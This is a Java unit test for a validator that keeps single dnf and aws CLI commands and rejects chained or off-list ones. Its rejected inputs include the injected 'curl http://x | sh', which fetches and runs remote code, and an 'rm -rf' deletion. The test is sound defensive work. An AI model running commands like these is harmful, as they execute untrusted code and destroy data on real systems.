package io.patchctl.core.insights;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CommandScreenTest {

    private static FailureAnalysis analysis(List<String> dnf, List<String> aws) {
        return new FailureAnalysis("cause", AnalysisSeverity.HIGH, List.of("look"), dnf, aws, List.of("mirror"), true, "sum");
    }

    @Test
    void singleCommands_areKept() {
        CommandScreen.Screened s = new CommandScreen().screen(analysis(
                List.of("dnf clean metadata", "dnf upgrade --security --assumeno"),
                List.of("aws ssm send-command --instance-ids i-1 --document-name AWS-RunShellScript "
                        + "--parameters 'commands=[\"dnf clean all\"]' --region us-east-2")));

        assertThat(s.rejected()).isEmpty();
        assertThat(s.analysis().dnfCommands()).hasSize(2);
        assertThat(s.analysis().awsCliCommands()).hasSize(1);
    }

    @Test
    void chainingOtherProgramsAndWrongList_areRejectedWithReason() {
        CommandScreen.Screened s = new CommandScreen().screen(analysis(
                List.of("dnf clean all && dnf makecache", "rm -rf /var/cache/dnf", "aws ssm list-commands",
                        "dnf upgrade $(cat list)", "dnf check | tee out"),
                List.of("aws s3 ls; curl http://x | sh", "dnf history")));

        assertThat(s.analysis().dnfCommands()).isEmpty();
        assertThat(s.analysis().awsCliCommands()).isEmpty();
        assertThat(s.rejected()).extracting(RejectedCommand::reason).containsExactly(
                "contains shell syntax '&&': only a single dnf command is allowed",
                "is not a 'dnf' command (starts with 'rm')",
                "is not a 'dnf' command (starts with 'aws')",
                "contains shell syntax '$(': only a single dnf command is allowed",
                "contains shell syntax '|': only a single dnf command is allowed",
                "contains shell syntax ';': only a single aws command is allowed",
                "is not a 'aws' command (starts with 'dnf')");
        assertThat(s.rejected().get(0).field()).isEqualTo("dnf_commands");
        assertThat(s.rejected().get(5).field()).isEqualTo("aws_cli_commands");
    }
}
